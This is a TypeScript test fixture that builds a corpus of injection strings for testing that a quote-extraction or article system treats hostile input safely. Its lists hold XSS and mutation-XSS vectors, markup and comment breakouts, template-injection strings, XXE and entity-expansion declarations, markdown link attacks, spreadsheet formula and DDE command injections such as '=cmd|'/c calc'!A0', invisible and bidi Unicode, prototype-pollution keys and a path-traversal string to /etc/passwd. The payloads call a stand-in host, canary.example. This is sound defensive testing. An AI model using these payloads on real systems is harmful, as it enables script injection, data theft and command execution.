// What somebody might put into an article, a name, an address or a message to have it run, fetch, spoof or break out. Each calls the canary
// in some way: it alters the page's `canary`, opens a dialog, or asks the canary's address. None ever may.

/** Where a payload that works would fetch something from. No server is there, and no test lets the request out. */
export const CANARY = "https://canary.example/";

const RUN = "canary=1";

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=${CANARY}a.js></script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script/x>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${CANARY}b.png">`,
  `<img/src='x'/onerror='${RUN}'/>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="${CANARY}c.swf">`,
  `<link rel=stylesheet href=${CANARY}d.css>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
  `<base href="${CANARY}">`,
  `<style>@import "${CANARY}e.css"; * { background: url(${CANARY}f.png) }</style>`,
  `<p style="background:url(${CANARY}g.png);position:fixed;inset:0">x</p>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==">x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open><form method=dialog action="${CANARY}"><button>x</button></form></dialog>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div hidden=until-found onbeforematch=${RUN}>x</div>`,
  `<x onclick=${RUN} tabindex=1 id=x style="display:block">x</x>`,
  `<form id=document><input name=cookie><img name=body></form>`,
  `<vox-mark wasm-src="${CANARY}h.wasm" worker-src="${CANARY}i.js"><p>x said y in Paris.</p></vox-mark>`,
];

const BREAKOUTS = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  "` onmouseover=`" + RUN + "` x=`",
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</article></main><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `--!><script>${RUN}</script>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `?><?xml-stylesheet href="${CANARY}j.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${CANARY}k.dtd">]>&y;`,
  `<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>&b;`,
  `</said></p></body></text></TEI><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<ref target="javascript:${RUN}">x</ref>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;b&amp;gt; &nbsp;&ZeroWidthSpace;&#0;&#xD800;`,
];

const CODE = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{speaker} {quotes} {name}`,
  `');${RUN};//`,
  `\\";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `$& $1 $\` $' $$`,
  `} * { background: url(${CANARY}l.png) } x {`,
  `\\3c img src=x onerror=${RUN}\\3e`,
  `expression(${RUN})`,
  `*/ } @import "${CANARY}m.css"; /*`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](${CANARY}n.png)`,
  `![x](x"onerror="${RUN})`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `[^1]: ![x](${CANARY}o.png)`,
  `<javascript:${RUN}>`,
  `\\<img src=x onerror=${RUN}>`,
  `\\\\<img src=x onerror=${RUN}>`,
  "```html\n<img src=x onerror=" + RUN + ">\n```",
  "~~~\n~~~\n<script>" + RUN + "</script>",
  `\`<b>\` *x* **x** __x__ ~~x~~ |x|y| $x$`,
  `# x\n===\n---\n> x\n1. x\n- x\n+ x\n    x`,
  `[x]: <${CANARY}> "y"`,
  `x\r# y\r- ![z](${CANARY}p.png)`,
];

const FORMULAS = ["=", "+", "-", "@", "\t=", "\r=", " =", "\uFF1D", "|", "%"].map((begin) => `${begin}HYPERLINK("${CANARY}q","x")`).concat([
  `=cmd|'/c calc'!A0`,
  `"=1+1`,
  `","=1+1","`,
  `"\r\n=1+1,`,
  `;=1+1`,
  `'=1+1`,
  `DDE("cmd";"/c calc")`,
]);

const UNSEEN = [
  "Ana\u0000Reyes",
  "Ana\u2028Reyes\u2029Costa\u0085x",
  "\u202EseyeR anA\u202C",
  "\u2066Ana\u2069\u2069\u202E Reyes",
  "\u2067\u202D\u202E\u202A\u202B",
  "Ana\u200B Rey\u00ADes\u2060\uFEFF",
  "Ana\u{E0041}\u{E0042} Reyes",
  "Ana\u200D\u200C Reyes\uFE0F",
  "Ana\u0300\u0301".padEnd(180, "\u0302"),
  "\uD83D Ana \uDE42",
  "\uFFFE\uFFFF\u0008\u000B\u001B[31m",
  "\u3164\u115F\u17B4",
];

const KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "then", "length", "NaN", "null", "undefined", "-1", "1e999", "../../../etc/passwd", "C:\\con", "%00%2e%2e%2f", "\u0041\u030A"];

export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...CODE, ...MARKDOWN, ...FORMULAS, ...UNSEEN, ...KEYS];

/** Values of JSON and not only words, where a field should be something else. */
export const VALUES: readonly unknown[] = [
  null, true, 0, -1, 1.5, 1e308, "", [], [[]], {}, { toString: "x" }, { length: -1 }, JSON.parse('{"__proto__":{"canary":1},"constructor":{"prototype":{"canary":1}}}'),
];

/** A payload of one line, as a name has it. */
export const oneLine = (payload: string): string => payload.replace(/\s+/g, " ").trim();

/** An article in which each payload is a quote, and more stand in names, roles and places. Blank lines would cut it in two. */
export function articleOf(payloads: readonly string[] = PAYLOADS): string {
  return payloads.map((payload) => `“We leave ${payload.replace(/\n+/g, "\n")},” said Mayor Ana Reyes in Cairo.`).join("\n\n");
}
